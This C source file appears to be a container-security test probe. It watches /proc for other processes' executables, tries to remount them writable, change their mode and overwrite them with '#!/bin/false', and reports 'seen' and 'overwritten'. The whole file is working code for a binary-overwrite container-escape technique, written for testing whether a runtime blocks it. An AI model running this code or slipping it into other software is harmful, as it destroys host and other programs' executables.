// Lies in wait for programs of others that pass through its PID namespace, holds on to each, tries to make the mount writable that it
// is run from, to change its mode, and to write to it when nobody runs it any more. Says "seen" for each other one that it has held, and
// "overwritten" when a write went through. Where each start has a copy of its own, it lets go of the oldest.
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <stdint.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

// mount_setattr(2); not every C library knows it.
static const long MOUNT_SETATTR = 442;
static const struct { uint64_t set, clear, propagation, user_namespace; } WRITABLE = {.clear = 1};
#define MOST 64

static struct stat mine;

static int is_known(const struct stat *file, const struct stat *known, int count) {
	for (int i = 0; i < count; i++)
		if (known[i].st_dev == file->st_dev && known[i].st_ino == file->st_ino)
			return 1;
	return 0;
}

int main(void) {
	struct stat known[MOST];
	int held[MOST], count = 0, oldest = 0;
	stat("/proc/self/exe", &mine);
	puts("waiting");
	fflush(stdout);
	for (;;) {
		DIR *processes = opendir("/proc");
		for (struct dirent *entry; processes != NULL && (entry = readdir(processes)) != NULL;) {
			char path[300];
			struct stat file;
			if (!isdigit((unsigned char)entry->d_name[0]))
				continue;
			snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
			int descriptor = open(path, O_PATH | O_CLOEXEC);
			if (descriptor < 0)
				continue;
			if (fstat(descriptor, &file) != 0 || is_known(&file, &mine, 1) || is_known(&file, known, count)) {
				close(descriptor);
				continue;
			}
			int place = count < MOST ? count++ : oldest++ % MOST;
			if (oldest > 0)
				close(held[place]);
			known[place] = file;
			held[place] = descriptor;
			puts("seen");
			fflush(stdout);
		}
		if (processes != NULL)
			closedir(processes);
		for (int i = 0; i < count; i++) {
			char path[64];
			snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
			syscall(MOUNT_SETATTR, held[i], "", AT_EMPTY_PATH, &WRITABLE, sizeof WRITABLE);
			chmod(path, known[i].st_mode | S_ISVTX);
			int descriptor = open(path, O_WRONLY | O_CLOEXEC);
			if (descriptor >= 0 && write(descriptor, "#!/bin/false\n", 13) == 13) {
				// The image's own programs are its to write.
				struct stat root;
				if (stat("/", &root) != 0 || known[i].st_dev != root.st_dev) {
					puts("overwritten");
					fflush(stdout);
				}
			}
			if (descriptor >= 0)
				close(descriptor);
		}
	}
}
